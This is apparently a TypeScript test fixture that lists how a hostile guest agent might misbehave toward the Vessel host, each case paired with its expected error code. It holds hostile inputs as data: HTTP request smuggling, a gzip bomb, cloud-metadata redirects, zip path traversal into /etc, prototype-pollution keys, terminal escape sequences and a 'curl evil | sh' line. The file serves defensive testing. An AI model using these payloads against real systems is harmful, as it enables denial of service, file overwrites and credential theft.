import { Readable, type Duplex } from 'node:stream';
import type { WebSocket } from 'ws';
import { gzipSync } from 'node:zlib';
import type { ErrorCode } from '#shared/errors.ts';
import { EXEC_FRAME } from '#shared/guest-protocol.ts';
import { storedZip, type FixtureEntry } from '../../electron/core/adapters/archive/stored-zip.fixture.ts';
import { honestSummary, HONEST_FILE, sendJson, sendSave, type Exchange } from './hostile-answers.ts';

/** What the host does meanwhile. */
export type Drive = 'open' | 'save' | 'close' | 'activity' | 'metrics' | 'ports' | 'exec' | 'page';
export type Misbehavior = {
  readonly name: string;
  /** The call of the agent that goes wrong; `connection` is every one, `page` VS Code or a port behind the gateway. */
  readonly call: string;
  readonly drive: Drive;
  /** How it ends on the host: one of these codes, or `fine` where what was said is only cut, ignored or shown. */
  readonly ends: readonly (ErrorCode | 'fine')[];
  readonly act?: (exchange: Exchange) => void;
  readonly connected?: (socket: Duplex) => void;
  readonly exec?: (client: WebSocket, socket: Duplex) => void;
};

const MB = 1024 * 1024;
const HEAD = 'HTTP/1.1 200 OK\r\n';
const raw = (text: string) => ({ socket }: Exchange): void => { socket.write(text); };
/** Goes on until the host has had enough. */
function flood(socket: Duplex, piece: Buffer | string): void {
  const more = (): void => { while (!socket.destroyed && socket.write(piece)); if (!socket.destroyed) socket.once('drain', more); };
  more();
}
const endless = (head: string, piece: string) => ({ socket }: Exchange): void => { socket.write(head); flood(socket, piece); };
function drip(socket: Duplex, head: string, byte = 'x'): void {
  socket.write(head);
  const timer = setInterval(() => { if (socket.destroyed) clearInterval(timer); else socket.write(byte); }, 50);
}
const json = (value: unknown, status = 200) => ({ response }: Exchange): void => sendJson(response, value, status);
const fails = (error: unknown, status = 500) => json({ error }, status);
const save = (entries: readonly FixtureEntry[], summary: object = {}, harm: Parameters<typeof storedZip>[1] = {}) => ({ response }: Exchange): void =>
  sendSave(response, storedZip(entries, harm), { ...honestSummary(1), entries: entries.length, ...summary });

/** The first entry without what closes the archive. */
function firstEntry(entry: FixtureEntry): Buffer {
  const zip = storedZip([entry]);
  return zip.subarray(0, 30 + zip.readUInt16LE(26) + zip.readUInt16LE(28) + (entry.data?.length ?? 0));
}

/** What never ends is cut where it is too much, or on a slow machine where it is too late. */
const OVERRUN: Misbehavior['ends'] = ['GUEST_UNREACHABLE', 'GUEST_TIMEOUT'];
const question = (name: string, act: Misbehavior['act'], ends: Misbehavior['ends'] = ['GUEST_UNREACHABLE']): Misbehavior => ({ name, call: 'GET metrics', drive: 'metrics', ends, ...(act === undefined ? {} : { act }) });
const activity = (name: string, change: object, ends: Misbehavior['ends'] = ['GUEST_UNREACHABLE']): Misbehavior => ({ name, call: 'GET activity', drive: 'activity', ends, act: json({ now: 1, ide: null, terminal: null, http: null, file: null, exec: null, open: { ide: 0, exec: 0, terminal: 0 }, changeCounter: 1, ...change }) });
const saving = (name: string, act: Misbehavior['act'], ends: Misbehavior['ends']): Misbehavior => ({ name, call: 'POST workspace/save', drive: 'save', ends, ...(act === undefined ? {} : { act }) });
const running = (name: string, exec: NonNullable<Misbehavior['exec']>, ends: Misbehavior['ends'] = ['GUEST_UNREACHABLE']): Misbehavior => ({ name, call: 'POST exec', drive: 'exec', ends, exec });
const page = (name: string, act: NonNullable<Misbehavior['act']>, ends: Misbehavior['ends'] = ['fine']): Misbehavior => ({ name, call: 'page', drive: 'page', ends, act });
const started = (client: WebSocket): void => client.send('{"type":"started","pid":1}');
const exited = (client: WebSocket): void => client.send('{"type":"exit","code":0,"signal":null}');
const output = (bytes: number): Buffer => Buffer.alloc(bytes, EXEC_FRAME.stdout);
const DEEP = '['.repeat(100_000);
const METRICS = { cpuPercent: 1, memoryUsedBytes: 1, memoryTotalBytes: 2, diskUsedBytes: 1, diskTotalBytes: 2, load1: 0, processes: 3 };
const BOMB = gzipSync(Buffer.alloc(20 * MB));
const LONG = Array.from({ length: 15 }, () => 'n'.repeat(250)).join('/');
const OSC = '\u001b]52;c;ZXZpbA==\u0007\u202e';

/** One row, one thing an agent may do wrong. */
export const MISBEHAVIORS: readonly Misbehavior[] = [
  // The transport of any answer.
  question('headers without end', endless(HEAD, 'x: y\r\n'), OVERRUN),
  question('a header of 10 MB', raw(`${HEAD}x: ${'y'.repeat(10 * MB)}\r\n\r\n`), OVERRUN),
  question('a body without end', endless(`${HEAD}transfer-encoding: chunked\r\n\r\n`, `10000\r\n${'x'.repeat(0x10000)}\r\n`), OVERRUN),
  question('a body of a byte now and then', ({ socket }) => drip(socket, `${HEAD}content-length: 100000\r\n\r\n`), ['GUEST_TIMEOUT']),
  question('a head of a byte now and then', ({ socket }) => drip(socket, HEAD), ['GUEST_TIMEOUT']),
  question('no answer at all', () => undefined, ['GUEST_TIMEOUT']),
  question('an early end', ({ socket }) => { socket.end(`${HEAD}content-length: 100\r\n\r\nx`); }),
  question('a content length that is no number', raw(`${HEAD}content-length: -5\r\n\r\n`)),
  question('two content lengths', raw(`${HEAD}content-length: 1\r\ncontent-length: 2\r\n\r\nxx`)),
  question('a content length and chunks', raw(`${HEAD}content-length: 1\r\ntransfer-encoding: chunked\r\n\r\n1\r\nx\r\n0\r\n\r\n`)),
  question('a chunk that never ends', raw(`${HEAD}transfer-encoding: chunked\r\n\r\nffffffff\r\nx`), ['GUEST_TIMEOUT']),
  question('chunk extensions without end', endless(`${HEAD}transfer-encoding: chunked\r\n\r\n1;`, 'x'.repeat(MB)), OVERRUN),
  question('trailers without end', endless(`${HEAD}transfer-encoding: chunked\r\n\r\n0\r\n`, 'x: y\r\n'), OVERRUN),
  question('interim answers without end', ({ socket }) => flood(socket, 'HTTP/1.1 103 Early Hints\r\n\r\n'), OVERRUN),
  question('101 without being asked', raw('HTTP/1.1 101 Switching Protocols\r\nconnection: upgrade\r\nupgrade: websocket\r\n\r\n')),
  question('a preface of HTTP/2', raw('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')),
  question('bytes of no protocol', ({ socket }) => flood(socket, Buffer.alloc(65_536, 0)), OVERRUN),
  question('a gzip bomb', ({ response }) => { response.writeHead(200, { 'content-encoding': 'gzip' }).end(BOMB); }),
  question('a redirect to the host', ({ response, canary }) => { response.writeHead(302, { location: canary }).end(); }),
  question('a redirect to the metadata of a cloud', ({ response }) => { response.writeHead(307, { location: 'http://169.254.169.254/latest/meta-data/' }).end(); }),
  question('an answer to a question that was not asked, behind the right one', ({ socket }) => { const body = JSON.stringify(METRICS); socket.write(`${HEAD}content-length: ${body.length}\r\n\r\n${body}${HEAD}content-length: 2\r\n\r\n{}`); }, ['fine']),
  { name: 'a connection that is cut at once, each time', call: 'connection', drive: 'metrics', ends: ['GUEST_UNREACHABLE'], connected: (socket) => { socket.destroy(); } },
  { name: 'a greeting before any question', call: 'connection', drive: 'metrics', ends: ['GUEST_UNREACHABLE', 'fine'], connected: (socket) => { socket.write('SSH-2.0-x\r\n'); } },
  // What an answer says.
  question('JSON of depth 100,000', json(DEEP)),
  question('no UTF-8', ({ response }) => { response.end(Buffer.from([0x22, 0xff, 0xfe, 0xc3, 0x28, 0x22])); }),
  question('a zero byte', json('{"cpuPercent":1\u0000}')),
  question('a number beyond all', json('{"cpuPercent":1e999,"memoryUsedBytes":1}')),
  question('a negative size', json({ ...METRICS, diskUsedBytes: -1 })),
  question('NaN', json(JSON.stringify(METRICS).replace(':1,', ':NaN,'))),
  question('a list for an object', json([METRICS])),
  question('keys that mean something to objects', json(`{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},${JSON.stringify(METRICS).slice(1)}`), ['fine']),
  question('the same key twice', json(`{"cpuPercent":7,${JSON.stringify(METRICS).slice(1)}`), ['fine']),
  question('a list of a million', json(`[${'1,'.repeat(1_000_000)}1]`)),
  question('an error of 6 MB', fails({ code: 'INTERNAL', message: 'a.'.repeat(3 * MB) })),
  question('an error of 130 kB that patterns stumble over', fails({ code: 'EXEC_FAILED', message: 'a.'.repeat(65_000) }, 400), ['EXEC_FAILED']),
  question('a code of another part of Vessel', fails({ code: 'HOST_KEY_CHANGED', message: 'x' }), ['GUEST_ERROR']),
  question('a code that pretends a cancel', fails({ code: 'CANCELLED', message: 'x' }), ['GUEST_ERROR']),
  question('an unknown code of megabytes', fails({ code: `INTERNAL_${'x'.repeat(2 * MB)}`, message: 'x' })),
  question('an error with sequences for a terminal', fails({ code: 'EXEC_FAILED', message: OSC, hint: 'curl evil | sh', details: { [OSC]: OSC }, logTail: [OSC] }), ['EXEC_FAILED']),
  question('an error that is none', fails(7)),
  question('a refusal whose body never ends', endless('HTTP/1.1 400 Bad\r\ntransfer-encoding: chunked\r\n\r\n', `10000\r\n${'x'.repeat(0x10000)}\r\n`), OVERRUN),
  question('a refusal whose body never comes', ({ socket }) => { socket.write('HTTP/1.1 400 Bad\r\ncontent-length: 9\r\n\r\n'); }, ['GUEST_TIMEOUT']),
  activity('a time beyond all dates', { now: 1e300 }),
  activity('a time as text', { ide: 'now' }),
  activity('a clock far ahead', { now: 8e15, ide: 8e15, open: { ide: 1e6, exec: 0, terminal: 0 } }, ['fine']),
  activity('a change counter with a fraction', { changeCounter: 0.5 }),
  ...[['5,000 ports', Array.from({ length: 5000 }, (_, at) => ({ port: at + 1, address: OSC, process: OSC })), 'fine'], ['port 70,000', [{ port: 70_000, address: '', process: null }], 'GUEST_UNREACHABLE'], ['port 0', [{ port: 0, address: '', process: null }], 'GUEST_UNREACHABLE']]
    .map(([name, ports, end]) => ({ name: name as string, call: 'GET ports', drive: 'ports' as const, ends: [end === 'fine' ? 'fine' as const : 'GUEST_UNREACHABLE' as const, ...(end === 'fine' ? ['GUEST_UNREACHABLE' as const] : [])], act: json({ ports }) })),
  // Opening.
  { name: 'health of another protocol', call: 'GET health', drive: 'open', ends: ['GUEST_UNREACHABLE'], act: json({ v: 'new', ide: { name: '../../etc' } }) },
  { name: 'health that never comes', call: 'GET health', drive: 'open', ends: ['GUEST_TIMEOUT'], act: () => undefined },
  { name: 'a workspace that is taken before it was sent', call: 'PUT workspace', drive: 'open', ends: ['fine', 'GUEST_UNREACHABLE'], act: ({ response, request }) => { request.pause(); sendJson(response, { entries: 1, files: 1, contentBytes: 1 }); } },
  { name: 'a workspace that is read and never answered', call: 'PUT workspace', drive: 'open', ends: ['GUEST_TIMEOUT'], act: ({ request }) => { request.resume(); } },
  { name: 'a workspace with a count that is none', call: 'PUT workspace', drive: 'open', ends: ['GUEST_UNREACHABLE'], act: ({ request, response }) => { request.resume(); sendJson(response, { entries: -1, files: 1e300, contentBytes: 'all' }); } },
  // Saving.
  saving('a save that stalls', ({ response }) => { response.writeHead(200); response.write(storedZip([HONEST_FILE]).subarray(0, 40)); }, ['GUEST_TIMEOUT']),
  saving('a save of a byte now and then', ({ socket }) => drip(socket, `${HEAD}transfer-encoding: chunked\r\n\r\n`, '1\r\nP\r\n'), ['GUEST_TIMEOUT', 'ARCHIVE_CORRUPT']),
  saving('a save that is cut', ({ response, socket }) => { response.write(storedZip([HONEST_FILE]).subarray(0, 40), () => socket.destroy()); }, ['GUEST_UNREACHABLE']),
  saving('a save without its summary', ({ response }) => { response.end(storedZip([HONEST_FILE])); }, ['ARCHIVE_CORRUPT']),
  saving('a save that goes on for ever', ({ response }) => { Readable.from((function* () { for (let at = 0; ; at += 1) yield firstEntry({ name: `f${at}`, data: Buffer.alloc(MB) }); })()).pipe(response); }, ['ARCHIVE_TOO_LARGE', 'ARCHIVE_CORRUPT']),
  saving('a summary of other entries', save([HONEST_FILE], { entries: 7 }), ['ARCHIVE_CORRUPT']),
  saving('a summary of no shape', save([HONEST_FILE], { changeCounter: 'many' }), ['ARCHIVE_CORRUPT']),
  saving('a file above the workspace', save([{ name: '../../evil', data: 'x' }]), ['ARCHIVE_UNSAFE']),
  saving('a file at the root', save([{ name: '/etc/cron.d/evil', data: 'x' }]), ['ARCHIVE_UNSAFE']),
  saving('a name with a zero byte', save([{ name: 'a\0b', data: 'x' }]), ['ARCHIVE_UNSAFE']),
  saving('the same name twice', save([HONEST_FILE, HONEST_FILE]), ['ARCHIVE_UNSAFE']),
  saving('a file below a link', save([{ name: 'a', data: '/etc', mode: 0o120777 }, { name: 'a/passwd', data: 'x' }]), ['ARCHIVE_UNSAFE']),
  saving('a device', save([{ name: 'a', data: '', mode: 0o060644 }]), ['ARCHIVE_UNSAFE']),
  saving('a checksum that lies', save([HONEST_FILE], {}, { local: (record) => ({ ...record, crc: 1 }), central: (record) => ({ ...record, crc: 1 }) }), ['ARCHIVE_CORRUPT']),
  saving('a size that lies', save([HONEST_FILE], {}, { local: (record) => ({ ...record, size: 3, compressedSize: 3 }) }), ['ARCHIVE_CORRUPT']),
  saving('a size of 2 GB and no content', save([HONEST_FILE], {}, { local: (record) => ({ ...record, size: 2 ** 31, compressedSize: 2 ** 31 }) }), ['ARCHIVE_TOO_LARGE', 'ARCHIVE_CORRUPT']),
  saving('entries that overlap', save([HONEST_FILE, { name: 'b', data: 'b' }], {}, { central: (record) => ({ ...record, offset: 0 }) }), ['ARCHIVE_CORRUPT']),
  saving('a directory of other names', save([HONEST_FILE], {}, { central: (record) => ({ ...record, name: Buffer.from('other.txt!') }) }), ['ARCHIVE_CORRUPT']),
  saving('bytes behind the end', ({ response }) => { sendSave(response, Buffer.concat([storedZip([HONEST_FILE]), Buffer.alloc(MB)]), honestSummary(1)); }, ['ARCHIVE_CORRUPT']),
  saving('endless names', ({ response }) => { sendNames(response); }, ['ARCHIVE_TOO_LARGE']),
  { name: 'programs with sequences for a terminal', call: 'POST programs/end', drive: 'close', ends: ['fine'], act: json({ programs: [{ pid: 1, command: OSC, wrote: [OSC], how: 'ended' }], changing: [OSC] }) },
  // Commands.
  running('output before the start', (client) => { client.send(output(10)); }),
  running('an exit before the start', (client) => exited(client)),
  running('two starts', (client) => { started(client); started(client); }),
  running('two exits and output behind them', (client) => { started(client); exited(client); exited(client); client.send(output(10)); }, ['fine']),
  running('a frame of 4 MB', (client) => { started(client); client.send(output(4 * MB)); }),
  running('a frame that says it has 2^62 bytes', (client, socket) => { started(client); socket.write(Buffer.from('827f4000000000000000', 'hex')); }),
  running('a masked frame', (client, socket) => { started(client); socket.write(Buffer.from('828100000000', 'hex')); }),
  running('a frame of a reserved kind', (client, socket) => { started(client); socket.write(Buffer.from('8700', 'hex')); }),
  running('fragments of one byte without end', (client, socket) => { started(client); socket.write(Buffer.from('020101', 'hex')); flood(socket, Buffer.from('000101'.repeat(10_000), 'hex')); }, OVERRUN),
  running('pings without end', (client, socket) => { started(client); flood(socket, Buffer.from('8900'.repeat(10_000), 'hex')); }, OVERRUN),
  running('output of an unknown stream', (client) => { started(client); client.send(Buffer.from([9, 9])); }),
  running('JSON of depth 100,000 for a message', (client) => client.send(DEEP)),
  running('an exit code of 10^9', (client) => { started(client); client.send('{"type":"exit","code":1000000000,"signal":null}'); }),
  running('a start error with sequences for a terminal', (client) => client.send(JSON.stringify({ type: 'error', error: { code: 'EXEC_FAILED', message: OSC } })), ['EXEC_FAILED']),
  running('no start at all', () => undefined, ['GUEST_TIMEOUT']),
  { name: 'an upgrade that is answered by headers without end', call: 'POST exec', drive: 'exec', ends: OVERRUN, connected: (socket) => { socket.write('HTTP/1.1 101 x\r\n'); flood(socket, 'x: y\r\n'); } },
  { name: 'an upgrade that leads elsewhere', call: 'POST exec', drive: 'exec', ends: ['GUEST_UNREACHABLE'], connected: (socket) => { socket.end('HTTP/1.1 302 x\r\nlocation: http://169.254.169.254/\r\ncontent-length: 0\r\n\r\n'); } },
  // Pages behind the gateway.
  page('a cookie for all neighbors and one of ours', ({ response }) => { response.writeHead(200, { 'set-cookie': ['a=1; Domain=localhost', '__Host-vessel-session=stolen; Path=/', 'vessel-x=1'] }).end('x'); }),
  page('headers of a page without end', endless(HEAD, 'x: y\r\n'), ['GUEST_UNREACHABLE', 'CANCELLED']),
// Without an answer the page waits until the browser leaves it.
    page('a page that upgrades without being asked', raw('HTTP/1.1 101 x\r\nconnection: upgrade\r\nupgrade: x\r\n\r\n'), ['GUEST_UNREACHABLE', 'CANCELLED']),
];

/** Local headers of 4,000-byte names, one after the other, for as long as they are read. */
function sendNames(response: Exchange['response']): void {
  response.writeHead(200);
  const zip = (at: number): Buffer => {
    const name = `${at}/${LONG}`;
    return firstEntry({ name, data: '' });
  };
  Readable.from((function* () { for (let at = 0; ; at += 20) yield Buffer.concat(Array.from({ length: 20 }, (_, index) => zip(at + index))); })()).pipe(response);
}
